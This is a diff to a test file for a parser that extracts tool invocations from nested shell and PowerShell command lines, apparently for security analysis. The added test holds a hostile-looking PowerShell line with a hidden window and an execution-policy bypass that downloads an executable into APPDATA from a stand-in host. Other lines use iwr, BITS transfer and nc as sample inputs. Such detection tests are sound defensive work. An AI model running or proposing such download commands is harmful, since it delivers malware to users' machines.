@@ -122,7 +122,19 @@ describe('shells inside shells', () => {
     expect(r.map((i) => [i.tool, i.dialect, ...i.args.map((a) => a.text)]).slice(1)).toEqual([
       ['iwr', 'powershell', 'https://e.example/p'],
     ]);
-    expect(tools(`pwsh -c "Start-BitsTransfer -Source https://b.example/x"`)).toEqual(['pwsh', 'start-bitstransfer']);
+    expect(new Set(tools(`pwsh -c "Start-BitsTransfer -Source https://b.example/x"`))).toEqual(
+      new Set(['pwsh', 'start-bitstransfer']),
+    );
+  });
+
+  it('reads a command line for Windows programs the way cmd.exe does too', () => {
+    // sh would stop at the parenthesis; cmd.exe (os.system on Windows) passes it to PowerShell.
+    const line =
+      "powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://x.example/a',$env:APPDATA+'\\a.exe')";
+    const dl = invocations(str(line)).find((i) => i.tool === 'webclient.downloadfile');
+    expect(dl?.args[0]?.text).toBe('http://x.example/a');
+    // A POSIX command line is read once, by sh.
+    expect(tools(`echo 'a | nc h.example 1'`)).toEqual(['echo']);
   });
 
   it('stops at LIMITS.depth levels of nesting', () => {
